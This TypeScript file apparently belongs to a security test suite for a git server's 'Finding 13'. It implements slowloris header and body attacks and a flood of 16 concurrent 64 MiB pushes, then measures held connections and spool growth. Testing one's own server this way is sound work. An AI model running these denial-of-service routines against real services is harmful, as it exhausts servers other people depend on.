// Finding 13: clients that hold the server's connections (slowloris), and many pushes spooling at once.
import { randomBytes } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';
import { readdir, stat } from 'node:fs/promises';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { basic } from '../api.js';
import type { Attack, AttackContext, StrikeLimits } from '../attack.js';
import { repoWithFiles } from '../git-push.js';
import { tally } from '../http.js';
import { FLUSH, pkt, ZERO_ID } from '../../../../packages/test-support/src/wire.js';

/** The slow clients' own source address on loopback (any 127/8 address reaches the server). */
const SLOW_CLIENT_ADDRESS = '127.0.0.5';
const HEADER_CONNECTIONS = 2_000;
const BODY_CONNECTIONS = 200;
/** How long the slow clients hold on, at most: past the old code's 60 s header timeout when the attack's time allows. */
const HOLD_MS = 75_000;
const TRICKLE_MS = 1_000;
const SPOOLING_PUSHES = 16;
const SPOOLED_BYTES = 64 << 20;
const MIB = 1 << 20;

/**
 * Opens `count` connections that each send `opening` and then one more byte every second, never
 * finishing their request; after holding for as long as the attack may, counts those the server
 * still keeps open.
 */
async function trickle(ctx: AttackContext, count: number, opening: string, limits: StrikeLimits): Promise<string> {
  const { hostname, port } = new URL(ctx.target.base());
  // From an address of their own on loopback, as an attacker's would be: the per-client caps
  // then meet the attack, and /healthz is probed as any other client would see the server.
  const localAddress = ['127.0.0.1', 'localhost'].includes(hostname) ? SLOW_CLIENT_ADDRESS : undefined;
  const sockets: net.Socket[] = [];
  const ends: string[] = [];
  const opened = await Promise.all(
    Array.from(
      { length: count },
      () =>
        new Promise<boolean>((resolve) => {
          const socket = net.connect({ host: hostname, port: Number(port), localAddress });
          socket.on('connect', () => {
            socket.write(opening);
            sockets.push(socket);
            resolve(true);
          });
          socket.on('data', (data: Buffer) => ends.push(data.toString('latin1').split('\r\n')[0] || 'data'));
          socket.on('error', (error: NodeJS.ErrnoException) => {
            ends.push(error.code ?? 'error');
            resolve(false);
          });
        }),
    ),
  );
  const hold = Math.min(HOLD_MS, limits.remainingMs() - 5_000);
  const started = Date.now();
  while (Date.now() - started < hold && !limits.signal.aborted) {
    await sleep(TRICKLE_MS);
    for (const socket of sockets) if (!socket.destroyed && socket.writable) socket.write('a');
  }
  const held = sockets.filter((socket) => !socket.destroyed && !socket.readableEnded).length;
  for (const socket of sockets) socket.destroy();
  return `${opened.filter(Boolean).length}/${count} connected; after ${(hold / 1000).toFixed(0)} s the server still held ${held} open${ends.length ? `; closed with ${tally(ends)}` : ''}`;
}

const publicRepo = async (ctx: AttackContext) => {
  const { attacker } = await ctx.accounts();
  const name = ctx.unique('slow');
  await ctx.api.createRepo(attacker, name);
  const dir = await ctx.scratch(name);
  await repoWithFiles(ctx.git, dir, { 'README.md': '# slow\n' });
  await ctx.git.git(['push', '--quiet', ctx.api.gitUrl(attacker, attacker.name, name), 'main'], { cwd: dir });
  return { owner: attacker.name, name };
};

/** Bytes of every file under `dir` (the spool directory), 0 when it is gone. */
async function directoryBytes(dir: string): Promise<number> {
  const entries = await readdir(dir, { withFileTypes: true }).catch(() => []);
  const sizes = await Promise.all(
    entries.map((entry) => {
      const full = path.join(dir, entry.name);
      return entry.isDirectory()
        ? directoryBytes(full)
        : stat(full).then(
            (s) => s.size,
            () => 0,
          );
    }),
  );
  return sizes.reduce((a, b) => a + b, 0);
}

/** One push streaming SPOOLED_BYTES of pack at full speed and then waiting; resolves with how it ended. */
function spoolingPush(
  ctx: AttackContext,
  owner: { name: string; token: string },
  repo: string,
  chunk: Buffer,
  sent: () => void,
  holdUntil: Promise<void>,
): Promise<string> {
  return new Promise((resolve) => {
    const req = http.request(`${ctx.target.base()}/${owner.name}/${repo}.git/git-receive-pack`, {
      method: 'POST',
      agent: false,
      headers: {
        ...basic(owner.name, owner.token),
        'content-type': 'application/x-git-receive-pack-request',
        'transfer-encoding': 'chunked',
      },
    });
    let outcome: string | undefined;
    // A push refused while it waits for a slot is answered without its body being read: the
    // writer must stop waiting for 'drain' then.
    let stopped!: () => void;
    const answered = new Promise<void>((resolve) => (stopped = resolve));
    req.on('response', (res) => {
      outcome = `answered ${res.statusCode}`;
      stopped();
      res.resume();
    });
    req.on('error', (error: NodeJS.ErrnoException) => {
      outcome ??= error.code ?? error.message;
      stopped();
    });
    const header = Buffer.alloc(12);
    header.write('PACK', 0, 'latin1');
    header.writeUInt32BE(2, 4);
    header.writeUInt32BE(1, 8);
    req.write(Buffer.concat([pkt(`${ZERO_ID} ${'1'.repeat(40)} refs/heads/spool\0report-status\n`), FLUSH, header]));
    void (async () => {
      for (let sent = 0; sent < SPOOLED_BYTES && outcome === undefined; sent += chunk.length) {
        if (!req.write(chunk)) await Promise.race([new Promise((drained) => req.once('drain', drained)), answered]);
      }
      const streamed = outcome === undefined;
      sent();
      await holdUntil;
      req.destroy();
      resolve(outcome ?? (streamed ? 'all streamed' : 'cut off'));
    })();
  });
}

export const slowClientAttacks: Attack[] = [
  {
    name: 'slowloris-headers',
    finding: '13',
    async prepare(ctx) {
      return (limits) => trickle(ctx, HEADER_CONNECTIONS, 'GET /healthz HTTP/1.1\r\nHost: slow\r\nX-Slow: ', limits);
    },
  },
  {
    name: 'slowloris-body',
    finding: '13',
    async prepare(ctx) {
      const repo = await publicRepo(ctx);
      const opening = `POST /${repo.owner}/${repo.name}.git/git-upload-pack HTTP/1.1\r\nHost: slow\r\nContent-Type: application/x-git-upload-pack-request\r\nContent-Length: 1000000\r\n\r\n`;
      return (limits) => trickle(ctx, BODY_CONNECTIONS, opening, limits);
    },
  },
  {
    name: 'push-spool-x16',
    finding: '13',
    async prepare(ctx) {
      const { attacker } = await ctx.accounts();
      const repo = ctx.unique('spool');
      await ctx.api.createRepo(attacker, repo);
      const spoolDir = ctx.target.dataDir === undefined ? undefined : path.join(ctx.target.dataDir, 'spool');
      // Random bytes: nothing on the way (gzip, a proxy) can shrink them.
      const chunk = randomBytes(MIB);
      return async (limits) => {
        let release!: () => void;
        const holdUntil = new Promise<void>((resolve) => (release = resolve));
        let peak = 0;
        let sampling = true;
        const sampler = (async () => {
          while (sampling && spoolDir) {
            peak = Math.max(peak, await directoryBytes(spoolDir));
            await sleep(200);
          }
        })();
        let done = 0;
        const pushes = Array.from({ length: SPOOLING_PUSHES }, () => spoolingPush(ctx, attacker, repo, chunk, () => done++, holdUntil));
        // Once every push has sent its bytes (or was stopped), all of them hold a moment, spooled.
        const streamedBy = Date.now() + Math.max(1_000, limits.remainingMs() - 10_000);
        while (Date.now() < streamedBy && done < SPOOLING_PUSHES) await sleep(250);
        await sleep(2_000);
        release();
        const outcomes = await Promise.all(pushes);
        sampling = false;
        await sampler;
        const spool = spoolDir ? `; spool peak ${(peak / MIB).toFixed(0)} MiB` : '';
        return `${SPOOLING_PUSHES} pushes × ${SPOOLED_BYTES / MIB} MiB by one account: ${tally(outcomes)}${spool}`;
      };
    },
  },
];
